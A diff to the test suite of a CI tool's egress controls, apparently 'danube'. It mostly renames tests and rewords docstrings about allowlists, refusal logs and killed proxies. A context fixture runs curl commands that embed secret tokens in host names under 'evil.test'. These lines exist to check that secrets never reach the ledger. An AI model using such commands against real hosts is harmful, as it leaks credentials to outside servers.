@@ -1,5 +1,4 @@
-"""Egress in whole jobs: the list of the configuration, the lines in the log, the ledger by command, and a server that
-dies."""
+"""Egress of whole jobs: allowlist, log lines, the ledger in `danube explain`, and a server that is killed."""
 
 import json
 import os
@@ -32,9 +31,7 @@ def allowed(port: int) -> list[str]:
     return [f"files.test:{port}", f"127.0.0.1:{port}"]
 
 
-def test_a_job_reaches_what_its_list_names_and_its_log_says_what_was_refused(
-    shared: Installation, origin: Origin
-) -> None:
+def test_a_job_reaches_its_allowlist_and_its_log_reports_refusals(shared: Installation, origin: Origin) -> None:
     shared.pipeline(
         "app",
         f"""
@@ -70,8 +67,9 @@ def test_a_job_reaches_what_its_list_names_and_its_log_says_what_was_refused(
     assert "egress_allowlist:\n  - evil.test\n" in table
 
 
-def test_a_container_of_an_image_has_the_same_way_out(shared: Installation, origin: Origin) -> None:
-    """A static busybox: the proxy is a variable and an address on the loopback, which every program understands."""
+def test_a_container_of_an_image_has_the_same_egress(shared: Installation, origin: Origin) -> None:
+    """A static busybox: the proxy is an environment variable with a loopback address, which every program
+    understands."""
     small = Layout(shared.path / "busybox").image("local/busybox:1", [busybox()])
     shared.command("image", "load", str(small.file(shared.path / "busybox.tar")))
     shared.pipeline(
@@ -93,7 +91,7 @@ def test_a_container_of_an_image_has_the_same_way_out(shared: Installation, orig
     assert "--- step 1: egress refused: evil.test:80 (not-listed)" in shared.log(job)
 
 
-def test_a_pipeline_without_a_list_learns_which_line_is_missing(shared: Installation) -> None:
+def test_without_an_allowlist_the_log_gives_the_missing_line(shared: Installation) -> None:
     shared.pipeline(
         "app",
         """
@@ -131,10 +129,10 @@ LEAKS = """
         step.run("curl -sS https://after.$TOKEN.test/ || true", env=env)
         step.run("curl -sS https://$NEW.evil.test/ || true", env={"NEW": secrets.get("NEW")})
 """
-"""Every way in which a program can put a secret where a ledger has names, before and after two processes are killed."""
+"""Every way for a program to put a secret into a name of the ledger, before and after two processes are killed."""
 
 
-def test_a_secret_that_is_made_a_hosts_name_is_written_down_nowhere(danube: Installation, origin: Origin) -> None:
+def test_a_secret_used_as_a_host_name_is_stored_nowhere(danube: Installation, origin: Origin) -> None:
     danube.add_settings(FILES_TEST)
     danube.pipeline(
         "app",
@@ -178,7 +176,7 @@ def test_a_secret_that_is_made_a_hosts_name_is_written_down_nowhere(danube: Inst
 
 
 def proxies_of(danube: Installation) -> list[int]:
-    """The egress proxies whose log is in that data directory."""
+    """The process ids of the egress proxies of that data directory."""
     log = danube.data / "run" / "egress" / "proxy.log"
     return [
         int(place.parent.parent.name)
@@ -187,8 +185,8 @@ def proxies_of(danube: Installation) -> list[int]:
     ]
 
 
-def test_a_download_continues_while_the_server_is_dead(danube: Installation) -> None:
-    halfway, second_half = threading.Event(), threading.Event()
+def test_a_download_continues_without_the_server(danube: Installation) -> None:
+    halfway, proceed = threading.Event(), threading.Event()
     with socket.create_server(("127.0.0.1", 0)) as listening:
         port = listening.getsockname()[1]
 
@@ -199,7 +197,7 @@ def test_a_download_continues_while_the_server_is_dead(danube: Installation) -> 
                 head = f"HTTP/1.1 200 OK\r\nContent-Length: {SIZE}\r\nConnection: close\r\n\r\n".encode()
                 connection.sendall(head + b"1" * (SIZE // 2))
                 halfway.set()
-                second_half.wait(60)
+                proceed.wait(60)
                 connection.sendall(b"2" * (SIZE // 2))
 
         thread = threading.Thread(target=serve)
@@ -220,7 +218,7 @@ def test_a_download_continues_while_the_server_is_dead(danube: Installation) -> 
         job = danube.trigger("app")
         wait_until(halfway.is_set, 30, "half of the download")
         danube.kill()
-        second_half.set()
+        proceed.set()
         thread.join()
         danube.serve()
         assert danube.end_of(job)["status"] == "success", danube.log(job)
@@ -256,7 +254,7 @@ def test_a_run_ends_with_the_allowlist_that_it_needs(tree: Path, tmp_path: Path,
     assert events[-1]["needed_allowlist"] == [own]
 
 
-def test_a_hermetic_run_reaches_what_is_named_and_nothing_else(tree: Path, tmp_path: Path, origin: Origin) -> None:
+def test_a_hermetic_run_reaches_only_what_is_allowed(tree: Path, tmp_path: Path, origin: Origin) -> None:
     own = f"127.0.0.1:{origin.server_port}"
     refused = danube_run(tree, "--hermetic", state=tmp_path)
     assert f"egress refused: {own} (loopback-address)" in refused.printed
@@ -277,7 +275,7 @@ def test_a_hermetic_run_reaches_what_is_named_and_nothing_else(tree: Path, tmp_p
         (["--allow", "@/nowhere.yaml"], "cannot be read as YAML"),
     ],
 )
-def test_what_contradicts_itself_is_refused_before_anything_runs(
+def test_contradictory_options_are_refused_before_a_step_runs(
     tree: Path, tmp_path: Path, words: list[str], what: str
 ) -> None:
     run = refused_run(tree, *words, state=tmp_path)
